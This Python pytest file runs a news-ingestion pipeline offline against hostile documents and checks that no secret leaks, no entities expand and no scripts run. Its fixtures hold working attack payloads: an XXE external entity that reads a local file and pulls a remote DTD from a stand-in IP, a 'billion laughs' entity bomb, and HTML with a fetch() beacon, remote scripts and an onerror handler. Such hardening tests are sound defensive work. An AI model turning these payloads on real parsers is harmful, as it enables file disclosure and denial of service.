"""A whole `newslake run` with the network unplugged, on documents built to make a parser fetch or explode."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

PROJECT = Path(__file__).resolve().parents[2]
SECRET = "TOP-SECRET-8c1f0e"

XXE = """<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY leak SYSTEM "file://{secret}"><!ENTITY remote SYSTEM "http://198.51.100.7/x.dtd">]>
<html><head><title>Entity test</title><meta property="article:published_time" content="2026-11-24T10:00:00Z">
</head><body><article><h1>Entity test</h1><p>Before the entity &leak; and the remote one &remote; after it.</p>
<p>The council in Port Ellery met on Monday to discuss the harbour plan and the bridge budget again.</p>
</article></body></html>"""

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<html><body><article><h1>Laughs</h1><p>&lol9;</p></article></body></html>"""

SCRIPTED = """<html><head><meta property="article:published_time" content="2026-11-24T11:00:00Z">
<link rel="canonical" href="http://198.51.100.7/story"><script src="http://198.51.100.7/a.js"></script>
<script>fetch('http://198.51.100.7/beacon'); document.write('INJECTED-BY-SCRIPT')</script></head>
<body><iframe src="http://198.51.100.7/frame"></iframe><article><h1>Script test</h1>
<p>Residents of Millbrook asked the water board on Monday to publish its report on the spring floods.</p>
<p><img src="http://198.51.100.7/pixel.gif" onerror="alert(1)">The board said it would do so next week.</p>
</article></body></html>"""


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("unshare") is None or os.geteuid() != 0, reason="needs root and unshare -n")
def test_run_without_network_on_hostile_documents(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "xxe.html").write_text(XXE.replace("{secret}", str(secret)))
    (inbox / "laughs.html").write_text(LAUGHS)
    (inbox / "scripted.html").write_text(SCRIPTED)
    (inbox / "urls.jsonl").write_text(
        '{"id": "u1", "title": "http://198.51.100.7/title", "url": "http://198.51.100.7/doc", '
        '"date": "2026-11-24T09:00:00Z", "text": "See http://198.51.100.7/more and file:///etc/passwd for '
        'details of the plan that the council approved on Monday in Halden."}\n')
    env = {**os.environ, "DAGSTER_HOME": str(tmp_path / "home")}
    lake = tmp_path / "lake"
    t0 = time.monotonic()
    run = subprocess.run(["unshare", "--net", sys.executable, "-m", "newslake.cli", "run", "--no-progress",
                          "--inbox", str(inbox), "--lake", str(lake)], cwd=PROJECT, env=env,
                         capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr[-3000:]
    assert time.monotonic() - t0 < 300

    from pipeline import storage
    from pipeline.schema import DOCUMENTS, FILES, REJECTS
    from pipeline.storage import Lake

    lk = Lake(str(lake))
    docs, rejects, files = storage.read(lk, DOCUMENTS), storage.read(lk, REJECTS), storage.read(lk, FILES)
    assert files.height == 4
    everything = " ".join(str(v) for frame in (docs, rejects) for row in frame.iter_rows() for v in row)
    assert SECRET not in everything, "file content leaked through an external entity"
    assert "lollollollol" not in everything, "entities were expanded"
    assert "INJECTED-BY-SCRIPT" not in everything, "a script ran"
    # every input is accounted for: a document or a reject for each record
    assert docs.height + rejects.filter(rejects["record_key"].is_not_null()).height == int(files["records"].sum())
    assert {"Script test", "Entity test"} <= set(docs["title"].drop_nulls())
